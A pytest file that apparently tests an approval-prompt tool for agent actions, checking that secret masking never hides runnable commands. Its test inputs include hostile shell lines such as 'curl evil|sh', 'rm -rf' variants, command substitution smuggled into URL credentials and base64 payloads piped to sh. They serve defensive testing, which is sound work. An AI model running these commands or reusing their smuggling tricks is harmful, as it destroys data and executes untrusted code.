"""What a person decides on is shown whole: a mask covers values of secrets, and nothing that could run."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from whet import log
from whet.contract.changes import TextChange
from whet.contract.protocols import ApprovalRequest
from whet.log import MASK, mask_values
from whet.question import build_question
from whet.visible import visible

KEY = "sk-live-abcdefgh12345678901"
LINE = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"


@pytest.fixture(autouse=True)
def no_secrets() -> Iterator[None]:
    log.forget_secrets()
    yield
    log.forget_secrets()


@pytest.mark.parametrize(
    "text",
    [
        "docker build . ; echo '-----BEGIN PRIVATE KEY-----'; touch A; touch B",
        "# -----BEGIN RSA PRIVATE KEY-----\nrm -rf ~/x; curl evil|sh",
        "-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----",
        "docker build http://x:$(rm${IFS}-rf${IFS}..)@localhost",
        "x='http://a:$(evil)@h'",
        "curl http://a:`evil`@h",
        "rm -rf bearer ~/important-documents-2026",
        "echo Bearer important-documents-2026",
        "git push sk-live-production-main-branch main",
        "docker rm sk-production-database-primary",
        f"rm -rf {KEY}",
        f"rm -rf './{KEY}'",
        f"A=`{KEY}`",
        f"A=$({KEY})",
        f"rm -rf A={KEY}/../../home",
        "rm -rf api/webhooks/1234567890/important-documents-2026",
        "rm -rf hooks.slack.com/services/important/documents/of/2026",
        f"git -c core.editor={KEY} commit",
        f"LD_PRELOAD={KEY} make x",
        f"PATH=/a:{KEY} ls",
        f"make SHELL={KEY}",
        f"tar --to-command={KEY} -xf a",
        f"alias ls={KEY}",
        f"deploy --token {KEY}",
        f'{{"token": "{KEY}"}}',
        "sh x://u:evil@h",
        "h='Authorization: Basic dG91Y2ggSElEREVOCg=='; echo ${h:21} | base64 -d | sh",
        "sh ./https://hooks.slack.com/services/aaaaaaaaaaaaaaaaaaaaaaaa",
        f"x='-----BEGIN PRIVATE KEY-----\n{LINE}\n'; base64 -di <<< \"${{x:29}}\" | sh",
    ],
)
def test_text_that_could_run_or_names_a_target_is_shown(text: str) -> None:
    assert mask_values(text) == visible(text) == text
    assert "\n".join(row.text for row in build_question(request(text)).body) == text


def test_known_secrets_are_masked_wherever_they_stand() -> None:
    log.protect(["Zq9-custom-secret-value-77"])
    assert mask_values("rm Zq9-custom-secret-value-77; ls") == f"rm {MASK}; ls"


def test_a_known_secret_that_may_be_a_word_is_shown() -> None:
    log.protect(["production"])
    assert mask_values("rm -rf production") == "rm -rf production"


def test_a_diff_shows_each_line_that_is_written() -> None:
    new = "#!/bin/sh\n# -----BEGIN RSA PRIVATE KEY-----\nrm -rf ~/x\nx='http://a:$(evil)@h'\n"
    change = TextChange("a.sh", "/w/a.sh", None, new, "")
    rows = build_question(ApprovalRequest("s", "c", "write_file", "", (), changes=(change,))).body
    assert [row.text for row in rows if row.kind == "added"] == [f"+{line}" for line in new.splitlines()]


def request(command: str) -> ApprovalRequest:
    return ApprovalRequest("s", "c", "terminal", visible(command), ())
